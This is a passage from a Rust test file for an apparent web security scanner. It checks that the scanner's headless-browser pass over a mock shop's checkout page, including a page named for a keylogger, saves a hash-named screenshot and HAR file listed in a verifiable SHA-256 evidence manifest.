    site.set("/static/checkout.js", js(CHECKOUT_JS));
    let resolve = site.resolve(SHOP);
    let url = site.url(SHOP, "/checkout");
    let (code, report, _) = common::scan_json(&[
        "--browser",
        "--chromium",
        "/bin/false",
        "--depth",
        "0",
        "--resolve",
        &resolve,
        &url,
    ]);
    assert_eq!(code, 3, "{report:#}");
    assert_eq!(report["complete"], false);
    assert!(
        report["errors"].to_string().contains("browser pass"),
        "{report:#}"
    );
}

/// `--evidence` with the browser pass keeps what the browser saw: a PNG screenshot of every
/// visit and the pass's HAR, stored by hash and listed in the manifest like every other artifact.
#[test]
fn evidence_keeps_the_browser_screenshot_and_har() {
    if !chromium_available("evidence_keeps_the_browser_screenshot_and_har") {
        return;
    }
    let shop = build_shop();
    let dir = tempfile::tempdir().unwrap();
    let ev = dir.path().join("case-77");
    let mut args: Vec<String> = vec![
        "--browser".into(),
        "--contain".into(),
        "--depth".into(),
        "0".into(),
        "--browser-wait".into(),
        "1".into(),
        "--evidence".into(),
        ev.to_str().unwrap().into(),
    ];
    args.extend(pins(&shop));
    args.push(shop.site.url(SHOP, "/checkout/keylogger"));
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let (code, report, stderr) = common::scan_json(&argv);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    let index: Value =
        serde_json::from_slice(&std::fs::read(ev.join("index.json")).unwrap()).unwrap();
    let index = index.as_object().unwrap();
    let with_source = |prefix: &str| -> Vec<(String, Vec<u8>)> {
        index
            .iter()
            .filter(|(_, v)| {
                v["sources"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|s| s.as_str().unwrap().starts_with(prefix))
            })
            .map(|(sha, _)| {
                (
                    sha.clone(),
                    std::fs::read(ev.join("artifacts").join(sha)).unwrap(),
                )
            })
            .collect()
    };
    let shots = with_source("browser screenshot: ");
    assert_eq!(shots.len(), 1, "{index:#?}");
    assert!(shots[0].1.starts_with(b"\x89PNG\r\n\x1a\n"), "not a PNG");
    let hars = with_source("browser HAR");
    assert_eq!(hars.len(), 1, "{index:#?}");
    let har: Value = serde_json::from_slice(&hars[0].1).unwrap();
    let entries = har["log"]["entries"].as_array().unwrap();
    assert!(
        entries.iter().any(|e| e["request"]["url"]
            .as_str()
            .unwrap()
            .contains("/checkout/keylogger")),
        "{har:#}"
    );
    // The manifest covers them: every artifact's name is its hash and is listed.
    let manifest = std::fs::read_to_string(ev.join("MANIFEST.sha256")).unwrap();
    for (sha, bytes) in shots.iter().chain(&hars) {
        use sha2::Digest as _;
        let hash: String = sha2::Sha256::digest(bytes)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert_eq!(*sha, hash);
        assert!(
            manifest.contains(&format!("{sha}  artifacts/{sha}\n")),
            "{manifest}"
        );
    }
    let check = std::process::Command::new("sha256sum")
        .args(["-c", "--quiet", "MANIFEST.sha256"])
        .current_dir(&ev)
        .output()
        .expect("sha256sum (GNU coreutils) is installed");
    assert!(check.status.success(), "{check:?}");
    assert_nothing_left(&shop);
}
